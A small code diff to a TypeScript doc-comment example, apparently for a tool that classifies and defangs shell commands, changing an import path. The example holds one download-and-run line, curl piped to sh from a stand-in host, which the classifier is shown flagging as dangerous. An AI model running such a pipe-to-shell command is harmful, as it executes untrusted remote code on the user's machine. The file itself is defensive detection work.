@@ -40,7 +40,7 @@ export function defangLine(line: string): string {
  * ```ts
  * import assert from "node:assert/strict";
  * import { renderCarriedCommand } from "./render_command.ts";
- * import { classifyCommand } from "./command/mod.ts";
+ * import { classifyCommand } from "./command/classify.ts";
  * const cmd = "curl -s https://example.invalid/x | sh";
  * const lines = renderCarriedCommand(cmd, classifyCommand(cmd));
  * assert.match(lines[0]!, /DANGEROUS \(families: download_exec\)/);
